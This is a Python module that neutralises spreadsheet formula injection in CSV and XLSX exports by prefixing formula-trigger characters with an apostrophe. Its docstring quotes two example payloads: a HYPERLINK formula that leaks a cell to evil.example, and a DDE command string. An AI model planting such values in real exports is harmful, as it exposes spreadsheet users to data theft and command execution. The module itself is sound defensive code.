"""Values written to spreadsheets (CSV and XLSX): never a formula (CWE-1236).

Names come from people, HR systems and the API: a member called
``=HYPERLINK("http://evil.example/?"&B3,"Open")`` or a skill called ``+cmd|' /C calc'!A0``
would be a live formula in the manager's spreadsheet program. Every export writes its values
through ``spreadsheet_value``, which follows OWASP's rule: text that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe, the mark spreadsheet
programs read as "this is text". Numbers, dates and empty cells are written as they are, so
they stay numbers. In XLSX files, ``xlsx_row_append`` also stores every text cell as a string
(openpyxl would otherwise store a string starting with ``=`` as a formula).

Imports of files the product wrote read text back through ``spreadsheet_text_read``, which
takes that apostrophe off again.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

#: The first characters that make a spreadsheet program read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def spreadsheet_value(value: Any) -> Any:  # noqa: ANN401 - any cell value
    """``value`` as a spreadsheet cell may safely hold it: text that would start a formula gets
    a leading apostrophe; every other value (numbers, dates, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_MARK + value
    return value


def spreadsheet_text_read(text: str) -> str:
    """Undo ``spreadsheet_value`` on text read back from a file the product wrote."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """``rows`` as CSV text, every value through ``spreadsheet_value``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([spreadsheet_value(value) for value in row])
    return buffer.getvalue()


def xlsx_row_append(sheet, values: Iterable[Any]) -> list:  # noqa: ANN001 - an openpyxl sheet
    """Append one row to an openpyxl ``sheet``, every value through ``spreadsheet_value`` and
    every text cell typed as a string (never a formula). Returns the row's cells."""
    from openpyxl.cell import Cell

    cells = []
    for value in values:
        safe = spreadsheet_value(value)
        cell = Cell(sheet, value=safe)
        if isinstance(safe, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
    return cells
